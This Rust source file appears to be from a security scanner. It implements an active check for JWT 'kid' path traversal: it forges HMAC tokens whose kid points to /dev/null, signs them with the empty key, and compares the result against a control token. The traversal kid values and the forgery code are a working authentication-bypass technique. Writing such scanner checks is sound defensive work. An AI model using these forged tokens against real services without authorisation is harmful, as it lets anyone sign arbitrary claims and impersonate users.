//! A JWT `kid` that selects attacker-controlled key material.
//!
//! The `kid` header names the key to verify with. A verifier that turns it
//! into a file path (`open(KEYS_DIR / kid)`) or a query without checking it
//! lets the attacker choose the key: `../../../../dev/null` reads an empty
//! file, and an HMAC keyed with the empty string is something anyone can
//! compute.
//!
//! Rampart uses safe forms only — path traversal to `/dev/null`, which
//! reads nothing and writes nothing — on HMAC-signed tokens that carry a
//! `kid`, and signs with the empty key, where the same empty-key token with
//! the genuine `kid` is refused.

use async_trait::async_trait;
use serde_json::{Map, Value};

use super::{jwt_credentials, report_forgery, Forgery, Told};
use crate::checks::{Check, CheckMeta, Mode, Outcome, RunsOn, Skip, TargetContext};
use crate::facts::Needs;
use crate::finding::{Category, Severity};
use crate::tokens::crack::Digest;
use crate::tokens::jwt::{self, Jwt, Signature};

pub struct Kid;

pub static META: CheckMeta = CheckMeta {
    check: &Kid,
    id: "token.jwt-kid",
    category: Category::Authentication,
    severity: Severity::Critical,
    summary:
        "JWT kid header selects attacker-controlled key material (path traversal to /dev/null)",
    mode: Mode::Active,
    runs_on: RunsOn::Target,
    min_identities: 1,
    needs: Needs::TOKENS.and(Needs::IDENTITIES),
};

/// Key ids that read an empty file, wherever the keys directory is.
const EMPTY_FILE_KIDS: &[&str] = &["../../../../../../../../../../dev/null", "/dev/null"];

#[async_trait]
impl Check for Kid {
    async fn probe_target(&self, ctx: &TargetContext<'_>) -> Outcome {
        let credentials: Vec<_> = jwt_credentials(ctx.facts)?
            .into_iter()
            .filter(|c| {
                c.jwt()
                    .is_some_and(|j| j.kid().is_some() && j.hmac_digest().is_some())
            })
            .collect();
        if credentials.is_empty() {
            return Err(Skip::NotApplicable("no HMAC-signed JWT with a kid header"));
        }
        // The control: the empty key under the genuine kid.
        let control = |token: &Jwt, claims: &Map<String, Value>| {
            let digest = token.hmac_digest().unwrap_or(Digest::Sha256);
            jwt::encode(&token.header, claims, Signature::Hmac(digest, b""))
        };
        let forgeries = |token: &Jwt| {
            let digest = token.hmac_digest().unwrap_or(Digest::Sha256);
            EMPTY_FILE_KIDS
                .iter()
                .map(|kid| {
                    let mut header = token.header.clone();
                    header.insert("kid".into(), Value::from(*kid));
                    Forgery {
                        how: (*kid).to_string(),
                        make: Box::new(move |claims: &Map<String, Value>| {
                            Some(jwt::encode(&header, claims, Signature::Hmac(digest, b"")))
                        }),
                    }
                })
                .collect()
        };
        report_forgery(ctx, credentials, control, forgeries, |forged| {
            let kid = &forged.how;
            let (alg, genuine_kid) = forged
                .credential
                .jwt()
                .map_or(("", ""), |t| (t.alg(), t.kid().unwrap_or_default()));
            Told {
                step: format!(
                    "`\"kid\": \"{kid}\"` with an HMAC over the empty key gets {}'s data",
                    forged.credential.identity
                ),
                title: "JWT kid path traversal: a token keyed with /dev/null's empty contents is accepted".into(),
                description: format!(
                    "With `kid` set to `{kid}`, an {alg} token signed with the empty key is accepted by {}, where the \
                     same token under the genuine kid (`{genuine_kid}`) is refused: the API reads its key from a path \
                     built from `kid`. Anyone can pick the key, and so sign any claims.{}",
                    forged.bench.point.template,
                    forged.impact_words("made the same way")
                ),
                key: "kid-traversal".into(),
            }
        })
        .await
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::tokens::crack::{verify, Digest, Scheme};
    use crate::tokens::jwt::Jwt;

    #[test]
    fn traversal_kids_reach_dev_null_from_any_depth_and_sign_with_the_empty_key() {
        for kid in EMPTY_FILE_KIDS {
            assert!(kid.ends_with("/dev/null"));
        }
        let mut header = Map::new();
        header.insert("alg".into(), "HS256".into());
        header.insert("kid".into(), EMPTY_FILE_KIDS[0].into());
        let token = Jwt::parse(&jwt::encode(
            &header,
            &Map::new(),
            Signature::Hmac(Digest::Sha256, b""),
        ))
        .unwrap();
        assert_eq!(token.kid(), Some(EMPTY_FILE_KIDS[0]));
        assert!(verify(
            &Scheme::Hmac(Digest::Sha256),
            b"",
            token.signing_input().as_bytes(),
            &token.signature
        ));
    }
}
